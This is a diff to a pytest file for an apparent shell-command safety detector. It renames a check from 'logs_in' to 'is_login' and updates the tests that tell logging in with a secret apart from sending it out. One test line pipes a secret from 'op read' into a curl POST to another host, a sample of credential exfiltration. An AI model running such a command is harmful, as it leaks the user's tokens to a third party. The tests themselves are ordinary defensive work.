@@ -2,7 +2,7 @@
 
 import pytest
 
-from pipeguard.detect.checks.benign_commands import is_disposable, is_installer, logs_in
+from pipeguard.detect.checks.benign_commands import is_disposable, is_installer, is_login
 
 
 @pytest.mark.parametrize(
@@ -40,7 +40,7 @@ def test_an_installer_is_one_only_where_all_that_is_fetched_is() -> None:
 
 
 @pytest.mark.parametrize(
-    ("before", "is_login"),
+    ("before", "expected"),
     [
         (b"Authorization:\x1fBearer\x1f", True),
         (b"PRIVATE-TOKEN:\x1f", True),
@@ -52,14 +52,14 @@ def test_an_installer_is_one_only_where_all_that_is_fetched_is() -> None:
 )
 def test_output_that_logs_in_is_told_from_output_that_is_sent(
     before: bytes,
-    is_login: bool,
+    expected: bool,
 ) -> None:
     lines = b"\n$ gh auth token\n$ curl " + before + b"$(gh\x1fauth\x1ftoken) https://a.example\n"
-    assert logs_in(b"\n$ gh auth token", lines) is is_login
+    assert is_login(b"\n$ gh auth token", lines) is expected
 
 
 def test_every_use_of_the_output_counts() -> None:
     lines = b"$ curl -H Authorization:\x1fBearer\x1f$(op\x1fread\x1fx) https://a.example\n"
-    assert logs_in(b"$ op read", lines)
-    assert not logs_in(b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n")
-    assert not logs_in(b"$ op read", b"$ op read x\n")
+    assert is_login(b"$ op read", lines)
+    assert not is_login(b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n")
+    assert not is_login(b"$ op read", b"$ op read x\n")
